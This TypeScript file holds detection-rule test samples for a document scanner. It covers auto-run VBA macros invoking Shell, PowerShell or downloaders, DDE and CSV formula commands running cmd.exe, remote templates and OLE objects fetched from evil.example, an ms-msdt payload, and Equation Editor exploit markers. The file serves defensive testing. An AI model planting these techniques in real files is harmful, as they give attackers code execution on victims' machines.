import type { RuleSample } from "./rule-samples.ts";
import { programStub, text, wide } from "./sample-text.ts";

const module = (body: string) => `Attribute VB_Name = "ThisDocument"\r\n${body}\r\n`;
const relation = (type: string, target: string) =>
  `<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const objectHex = (bytes: Buffer) =>
  `{\\rtf1{\\object\\objemb{\\*\\objdata ${bytes.toString("hex")}}}}`;
const oneNoteMark = Buffer.from("e4525c7b8cd8a74daeb15378d02996d3", "hex");
const fileStoreMark = Buffer.from("e716e3bd65261145a4c48d4d0b7a9eac", "hex");

export const officeSamples: Readonly<Record<string, RuleSample>> = {
  office_macro_runs_command: {
    found: [
      text(module('Sub Auto·Open()\r\n  Sh·ell "calc.exe", 0\r\nEnd Sub')),
      text(
        module(
          'Private Sub Document_·Open()\r\n  Set s = Cr·eateObject("WScript·.Sh·ell")\r\nEnd Sub',
        ),
      ),
      wide(module('Sub Work·book_Open()\r\n  x = "power·shell"\r\nEnd Sub')),
    ],
    nearMiss: [
      text(module('Sub Total()\r\n  Range("A1").Value = Sum(Range("B1:B9"))\r\nEnd Sub')),
      text('Our manual says: Au·toOpen() runs at start; use Sh·ell "calc.exe" with care.'),
    ],
  },
  office_macro_downloads: {
    found: [
      text(module('Sub Auto·Open()\r\n  Set h = Cr·eateObject("MSXML2·.XM·LHTTP")\r\nEnd Sub')),
      text(module("Sub Document_·Open()\r\n  URLDown·loadToFile 0, u, p, 0, 0\r\nEnd Sub")),
    ],
    nearMiss: [
      text(module('Sub Refresh()\r\n  Set h = Cr·eateObject("MSXML2.XM·LHTTP")\r\nEnd Sub')),
    ],
  },
  office_macro_starts_by_itself: {
    found: [text(module('Private Sub Work·book_Open()\r\n  MsgBox "Hello"\r\nEnd Sub'))],
    nearMiss: [text(module('Sub Greet()\r\n  MsgBox "Hello"\r\nEnd Sub'))],
  },
  office_excel4_macro: {
    found: [
      text('<xm:macro·sheet xmlns:xm="x"><c r="A1"><f>EX·EC("calc.exe")</f></c></xm:macrosheet>'),
    ],
    nearMiss: [
      text('<worksheet><c r="A1"><f>SUM(B1:B9)</f></c></worksheet>'),
      text('<xm:macrosheet xmlns:xm="x"><c r="A1"><f>SUM(B1:B9)</f></c></xm:macrosheet>'),
    ],
  },
  office_dde_command: {
    found: [
      text(
        '<w:r><w:instrText xml:space="preserve"> DDE·AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" </w:instrText></w:r>',
      ),
      text('<externalLink><ddeLink ddeService="c·md" ddeTopic="/c calc"/></externalLink>'),
      text("name,total\r\nx,=c·md|'/c calc'!A1\r\n"),
    ],
    nearMiss: [
      text("<w:instrText> PAGE </w:instrText><w:t>DD·EAUTO is explained on page 3</w:t>"),
      text("name,total\r\nx,=SUM(A1:A3)\r\n"),
    ],
  },
  office_remote_template: {
    found: [
      text(relation("attached·Template", "https://evil.example/t.dotm")),
      text("{\\rtf1{\\*\\tem·plate http://evil.example/t.dot}}"),
    ],
    nearMiss: [
      text(relation("attachedTemplate", "Normal.dotm")),
      text(relation("hyperlink", "https://good.example/t.dotm")),
    ],
  },
  office_remote_object: {
    found: [
      text(
        relation("ole·Object", "mhtml:http://evil.example/x.html!x-usc:http://evil.example/x.html"),
      ),
      text(relation("ole·Object", "https://evil.example/page.html!")),
      text(relation("fra·me", "\\\\evil.example\\share\\x")),
    ],
    nearMiss: [
      text(relation("oleObject", "embeddings/oleObject1.bin")),
      text(relation("image", "https://good.example/logo.png")),
    ],
  },
  html_msdt_protocol: {
    found: [
      text(
        '<script>location.href = "ms-·msdt:/id PCWDiagnostic /skip force /param IT_Browse·ForFile=x"</·script>',
      ),
    ],
    nearMiss: [text("<p>The handler ms-msdt:/id is switched off in our company.</p>")],
  },
  rtf_equation_editor: {
    found: [
      text("{\\rtf1{\\object\\objemb\\objupd·ate{\\*\\objclass Equa·tion.3}}}"),
      text(`{\\rtf1{\\*\\objdata 0105${Buffer.from("Equation.3").toString("hex")}}}`),
      text("{\\rtf1{\\*\\objdata 02ce02·0000000000c000000000000046}}"),
    ],
    nearMiss: [
      text("{\\rtf1 Equation.3 is x squared}"),
      text("In the page: \\objclass Equation.3"),
    ],
  },
  rtf_object_updates_itself: {
    found: [text("{\\rtf1{\\object\\objocx\\objup·date{\\*\\objdata 0105}}}")],
    nearMiss: [text("{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}")],
  },
  rtf_holds_program: {
    found: [text(objectHex(programStub()))],
    nearMiss: [text(objectHex(Buffer.from("an embedded note")))],
  },
  onenote_holds_script: {
    found: [
      { bytes: Buffer.concat([oneNoteMark, fileStoreMark, text("<scr·ipt>x</·script>").bytes]) },
      { bytes: Buffer.concat([oneNoteMark, fileStoreMark, programStub()]) },
      { bytes: Buffer.concat([oneNoteMark, fileStoreMark, wide("invoice.hta\0").bytes]) },
    ],
    nearMiss: [
      { bytes: Buffer.concat([oneNoteMark, fileStoreMark, Buffer.from("a photograph")]) },
      { bytes: Buffer.concat([oneNoteMark, Buffer.from("notes about <script> tags")]) },
    ],
  },
  ole_package_holds_program: {
    found: [text("hello", "invoice.exe", "a.doc/Ole10Native/invoice.exe")],
    nearMiss: [
      text("hello", "invoice.pdf", "a.doc/Ole10Native/invoice.pdf"),
      text("hello", "invoice.exe", "a.zip/invoice.exe"),
    ],
  },
};
